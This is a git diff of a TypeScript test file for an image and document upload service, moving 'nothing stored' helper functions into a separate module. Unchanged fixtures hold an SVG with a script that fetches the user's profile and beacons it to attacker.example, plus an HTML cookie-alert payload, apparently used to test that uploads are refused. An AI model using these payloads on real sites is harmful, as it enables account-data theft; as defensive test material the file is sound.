@@ -8,10 +8,8 @@
  * original's metadata, and its original bytes go out only as a download.
  */
 import { randomUUID } from 'node:crypto';
-import { existsSync, readdirSync } from 'node:fs';
 import { request as httpRequest } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import path from 'node:path';
 import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
 import { serve, type ServerType } from '@hono/node-server';
 import { IDEMPOTENCY_HEADER, LIMITS, type CaptureReceipt, type Right } from '@openipp/shared';
@@ -19,6 +17,8 @@ import sharp from 'sharp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { bearer, createHarness, loginBearer, sampleMeta, sha256, upload, type Harness } from '../testing/harness';
 import { pdfBytes } from '../testing/registration';
+// Nothing stored: row counts (rate-limit counters aside), the audit chain's head, and the blob files.
+import { problem, stateOf } from './side-effects';
 
 type Bytes = Uint8Array<ArrayBuffer>;
 interface FilePart {
@@ -108,33 +108,6 @@ const SVG_WITH_SCRIPT = text(
   '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><script>fetch("/api/me").then(r=>r.text()).then(t=>navigator.sendBeacon("https://attacker.example/",t))</script><rect width="64" height="64"/></svg>',
 );
 const HTML_TAIL = text('<html><body><script>alert(document.cookie)</script></body></html>');
-
-// ---------------------------------------------------------------- what "nothing stored" means
-
-/** Every table's row count (the write rate limit's counters aside: refusing a request is allowed to count it). */
-function rowCounts(h: Harness): Record<string, number> {
-  const tables = h.db.rows<{ name: string }>("select name from sqlite_master where type = 'table' and name not like 'sqlite_%' and name not like '__drizzle%' order by name");
-  return Object.fromEntries(tables.filter(({ name }) => name !== 'rate_limit_counters').map(({ name }) => [name, h.db.count(name)]));
-}
-
-function blobFiles(h: Harness): string[] {
-  const root = path.join(h.dataDir, 'blobs');
-  if (!existsSync(root)) return [];
-  return readdirSync(root, { recursive: true, withFileTypes: true })
-    .filter((entry) => entry.isFile())
-    .map((entry) => path.join(entry.parentPath, entry.name))
-    .sort();
-}
-
-function stateOf(h: Harness) {
-  const [last] = h.db.rows<{ seq: number; hash: string }>('select seq, hash from audit_log order by seq desc limit 1');
-  return { rows: rowCounts(h), auditHead: last ?? null, blobs: blobFiles(h) };
-}
-
-async function problem(res: Response): Promise<{ code: string; status: number; errors?: Array<{ path: string; code: string }> }> {
-  expect(res.headers.get('content-type')).toBe('application/problem+json');
-  return (await res.json()) as { code: string; status: number; errors?: Array<{ path: string; code: string }> };
-}
 
 // ---------------------------------------------------------------- the corpus
 
